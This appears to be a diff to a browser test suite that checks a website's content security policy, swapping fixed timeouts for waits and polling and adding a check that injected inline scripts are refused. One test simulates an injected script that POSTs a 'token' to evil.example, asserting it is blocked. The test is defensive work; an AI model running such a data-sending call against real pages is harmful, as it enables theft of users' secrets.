@@ -24,11 +24,13 @@ test("the pages keep to their own content security policy", async () => {
   await begin(page);
   for (const path of ["/", "/resumes", "/progress", "/privacy", "/sign-in", "/docs/"]) {
     await page.goto(path);
-    await page.waitForTimeout(1_500); // listeners never let the network be idle
-  }
+    await page.getByRole("heading").first().waitFor();
 
-  // then nothing of theirs is refused
-  expect(refused).toEqual([]);
+    // then nothing of theirs is refused before something that must be, and is reported in turn
+    await page.evaluate(() => document.head.append(Object.assign(document.createElement("script"), { text: "0" })));
+    await expect.poll(() => refused, path).toContain("script-src-elem inline");
+    expect(refused.splice(0), path).toEqual(["script-src-elem inline"]);
+  }
   await browser.close();
 });
 
@@ -57,13 +59,12 @@ test("a script that gets into the page does not run", async () => {
     document.getElementById("link")?.click();
     return fetch("https://evil.example/", { method: "POST", body: "token" }).catch(() => undefined);
   });
-  await page.waitForTimeout(1_000);
 
-  // then none of them ran, and nothing was sent
+  // then each is refused, none ran, and nothing was sent
+  await expect
+    .poll(() => new Set(refused.map((one) => one.split(" ")[0])))
+    .toEqual(new Set(["script-src-attr", "script-src-elem", "connect-src", "base-uri"]));
   expect(await page.evaluate(() => (window as unknown as { taken?: number }).taken)).toBeUndefined();
-  expect(new Set(refused.map((one) => one.split(" ")[0]))).toEqual(
-    new Set(["script-src-attr", "script-src-elem", "connect-src", "base-uri"]),
-  );
   expect(await page.evaluate(() => document.baseURI)).not.toContain("evil");
   await browser.close();
 });
